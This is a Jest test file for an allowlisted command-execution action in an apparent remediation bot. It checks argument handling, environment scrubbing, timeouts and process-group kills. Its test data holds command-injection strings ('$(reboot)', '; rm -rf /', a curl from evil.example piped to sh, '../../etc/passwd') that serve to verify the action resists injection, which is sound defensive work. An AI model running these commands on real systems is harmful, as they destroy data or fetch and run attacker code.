import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import pino from 'pino';
import { systemClock } from '../../src/core/clock';
import type { ActionContext } from '../../src/engine/action';
import { PermanentStepError, TransientStepError } from '../../src/engine/step-errors';
import { createExecAction } from './create-exec-action';

const ECHO = '/bin/echo';
const SH = '/bin/sh';
const SLEEP = '/bin/sleep';
const ENV = '/usr/bin/env';

function context(signal = new AbortController().signal): ActionContext {
  const approval = { state: null, approvers: [], expiresMs: 0 };
  return { runId: 'run_1', incidentId: 'inc_1', stepId: 'restart', commonLabels: {}, attempt: 1, signal, log: pino({ level: 'silent' }), clock: systemClock, approval };
}

async function failure(promise: Promise<unknown>): Promise<PermanentStepError | TransientStepError> {
  try {
    await promise;
  } catch (error) {
    if (error instanceof PermanentStepError || error instanceof TransientStepError) return error;
    throw error;
  }
  throw new Error('expected the step to fail');
}

/** Dead or a zombie waiting for init: either way no longer running. */
function isRunning(pid: number): boolean {
  try {
    const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8');
    return !/^\d+ \(.*\) Z/.test(stat);
  } catch {
    return false;
  }
}

describe('createExecAction', () => {
  const action = createExecAction({ allowlist: [ECHO, SH, SLEEP, ENV], killGraceMs: 300 });
  const run = (argv: string[], extra: Record<string, unknown> = {}, ctx = context()) => action.execute(action.input.parse({ argv, ...extra }), ctx);

  describe('its declaration', () => {
    it('is the non-idempotent `exec` action, one circuit-breaker target per program', () => {
      expect(action).toMatchObject({ name: 'exec', idempotent: false });
      expect(action.target?.({ argv: [ECHO, 'x'] })).toBe(ECHO);
    });

    it('parses the timeout duration', () => {
      expect(action.input.parse({ argv: [ECHO], timeout: '30s' })).toEqual({ argv: [ECHO], timeout: 30_000 });
    });

    it.each([
      ['an empty argv', { argv: [] }],
      ['a bare program name (no PATH lookup)', { argv: ['echo', 'hi'] }],
      ['an absolute program outside the allowlist', { argv: ['/bin/rm', '-rf', '/tmp/x'] }],
      ['a path that only resolves to an allowlisted program', { argv: ['/bin/../bin/echo', 'hi'] }],
      ['a NUL byte in an argument', { argv: [ECHO, 'a\0b'] }],
      ['a relative cwd', { argv: [ECHO], cwd: 'tmp' }],
      ['a shell command string field', { argv: [ECHO], command: 'echo hi' }],
    ])('rejects %s', (_name, input) => {
      expect(action.input.safeParse(input).success).toBe(false);
    });

    it('refuses to be built with a relative allowlist entry', () => {
      expect(() => createExecAction({ allowlist: ['kubectl'] })).toThrow(/absolute/);
    });
  });

  describe('when the program succeeds', () => {
    it('returns exit code, stdout and stderr', async () => {
      await expect(run([ECHO, 'hello'])).resolves.toEqual({ exitCode: 0, signal: null, stdout: 'hello\n', stderr: '', truncated: false });
    });

    it.each(['$(reboot)', '`reboot`', '; rm -rf /', '&& curl evil.example | sh', '../../etc/passwd', '{{ x }}', '*', '$HOME', 'a\nb'])(
      'passes %j to the program verbatim',
      async (hostile) => {
        await expect(run([ECHO, hostile])).resolves.toMatchObject({ stdout: `${hostile}\n` });
      },
    );

    it('keeps each argument a single argv entry, even for a shell that is allowlisted', async () => {
      const printArgs = 'for a in "$@"; do printf "[%s]\\n" "$a"; done';
      const output = await run([SH, '-c', printArgs, 'sh', '$(reboot)', '; rm -rf /', 'two words']);
      expect(output.stdout).toBe('[$(reboot)]\n[; rm -rf /]\n[two words]\n');
    });

    it('runs in cwd when given', async () => {
      const dir = fs.realpathSync(os.tmpdir());
      await expect(run([SH, '-c', 'pwd'], { cwd: dir })).resolves.toMatchObject({ stdout: `${dir}\n` });
    });
  });

  describe('the environment', () => {
    it('holds only PATH, LANG and the configured extras, never mendbot’s own variables (HOME, tokens…)', async () => {
      const withExtras = createExecAction({ allowlist: [ENV], env: { KUBECONFIG: '/etc/mendbot/kubeconfig' } });
      const output = await withExtras.execute({ argv: [ENV] }, context());
      expect(String(output.stdout).trim().split('\n').sort()).toEqual([
        'KUBECONFIG=/etc/mendbot/kubeconfig',
        'LANG=C.UTF-8',
        'PATH=/usr/local/bin:/usr/bin:/bin',
      ]);
    });
  });

  describe('when the program cannot be run', () => {
    it('fails permanently, without running anything, for a program outside the allowlist', async () => {
      const error = await failure(action.execute({ argv: ['/bin/rm', '-rf', '/tmp/mendbot-never'] }, context()));
      expect(error).toBeInstanceOf(PermanentStepError);
    });

    it('fails permanently when an allowlisted program does not exist', async () => {
      const missing = createExecAction({ allowlist: ['/nonexistent/bin/kubectl'] });
      const error = await failure(missing.execute({ argv: ['/nonexistent/bin/kubectl'] }, context()));
      expect(error).toBeInstanceOf(PermanentStepError);
      expect(error.details).toMatchObject({ code: 'ENOENT' });
    });

    it.each([126, 127])('fails permanently on exit code %i (not executable / not found)', async (code) => {
      const error = await failure(run([SH, '-c', `exit ${code}`]));
      expect(error).toBeInstanceOf(PermanentStepError);
      expect(error.details).toMatchObject({ exitCode: code });
    });
  });

  describe('when the program fails', () => {
    it('fails transiently on another non-zero exit, with the output in the details', async () => {
      const error = await failure(run([SH, '-c', 'echo partial; echo "connection refused" >&2; exit 3']));
      expect(error).toBeInstanceOf(TransientStepError);
      expect(error.details).toMatchObject({ exitCode: 3, stdout: 'partial\n', stderr: 'connection refused\n' });
    });

    it('keeps at most maxOutputBytes of each stream, reads the rest and says so', async () => {
      const small = createExecAction({ allowlist: [SH], maxOutputBytes: 1024 });
      const output = await small.execute({ argv: [SH, '-c', 'i=0; while [ $i -lt 2000 ]; do echo 0123456789abcdef; i=$((i+1)); done'] }, context());
      expect(output).toMatchObject({ exitCode: 0, truncated: true });
      expect(output.stdout).toHaveLength(1024);
    });
  });

  describe('when the program runs too long', () => {
    it('kills it at its own timeout and fails transiently', async () => {
      const started = Date.now();
      const error = await failure(run([SLEEP, '30'], { timeout: '200ms' }));
      expect(error).toBeInstanceOf(TransientStepError);
      expect(error.details).toMatchObject({ timeoutMs: 200, signal: 'SIGTERM' });
      expect(Date.now() - started).toBeLessThan(5_000);
    });

    it('kills the whole process group when the executor aborts the step', async () => {
      const controller = new AbortController();
      const started = run([SH, '-c', `${SLEEP} 30 & echo $!; wait`], {}, context(controller.signal));
      await new Promise((resolve) => setTimeout(resolve, 300));
      controller.abort();
      const error = await failure(started);
      expect(error).toBeInstanceOf(TransientStepError);
      expect(error.details).toMatchObject({ aborted: true });
      const grandchild = Number(String(error.details.stdout).trim());
      expect(grandchild).toBeGreaterThan(0);
      // The signal reaches the whole group at once, but a loaded machine may take a moment to reap the
      // grandchild: poll briefly (it would otherwise live for 30 s).
      const deadline = Date.now() + 2_000;
      while (isRunning(grandchild) && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
      expect(isRunning(grandchild)).toBe(false);
    });

    it('sends SIGKILL after the grace period to a program that ignores SIGTERM', async () => {
      const controller = new AbortController();
      const started = run([SH, '-c', `trap "" TERM; ${SLEEP} 30`], {}, context(controller.signal));
      setTimeout(() => controller.abort(), 200);
      const error = await failure(started);
      expect(error.details).toMatchObject({ aborted: true, signal: 'SIGKILL' });
    });

    it('does not start at all once the step is already aborted', async () => {
      const controller = new AbortController();
      controller.abort();
      const error = await failure(run([ECHO, 'late'], {}, context(controller.signal)));
      expect(error).toBeInstanceOf(TransientStepError);
      expect(error.details).not.toHaveProperty('stdout');
    });
  });

  it('never looks a bare program name up in PATH, even if execute is called unvalidated', async () => {
    const error = await failure(action.execute({ argv: [path.basename(ECHO), 'hi'] }, context()));
    expect(error).toBeInstanceOf(PermanentStepError);
  });
});
